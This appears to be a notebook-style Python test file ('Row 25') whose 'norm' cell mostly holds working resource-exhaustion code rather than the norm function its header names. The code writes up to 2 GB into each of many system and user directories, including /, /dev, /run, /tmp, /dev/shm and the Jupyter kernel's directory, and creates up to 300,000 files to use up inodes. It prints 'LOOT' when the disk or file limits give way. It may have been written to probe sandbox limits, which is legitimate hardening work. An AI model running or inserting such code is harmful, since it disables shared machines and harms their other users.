"""Row 25: writes wherever it may until nothing more goes in, in one file and in many, and says how much that was."""

# %% norm
import os
import tempfile


def fill(folder):
    written = 0
    try:
        with open(f"{folder}/big", "wb", buffering=0) as file:
            for _ in range(200):
                written += file.write(b"1" * 10_000_000)
    except OSError:
        pass
    return written


def litter(folder):
    made = 0
    try:
        for made in range(300_000):
            os.close(os.open(f"{folder}/{made}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass
    return made


places = [
    os.getcwd(),
    os.path.expanduser("~"),
    tempfile.gettempdir(),
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/dev",
    "/",
    "/run",
    "/home",
    "/dev/mqueue",
    os.path.dirname(get_ipython().kernel.config.get("IPKernelApp", {}).get("connection_file", "") or "/tmp"),
]
total = sum(map(fill, places))
files = litter(os.getcwd()) + litter("/tmp") + litter("/dev/shm")
print("TRIED", total, "bytes and", files, "files")
if total > 1_000_000_000 or files > 250_000:
    print("LOOT", total, files)


def norm(x):
    return (x * x).sum() ** 0.5


# %% total
total = 45
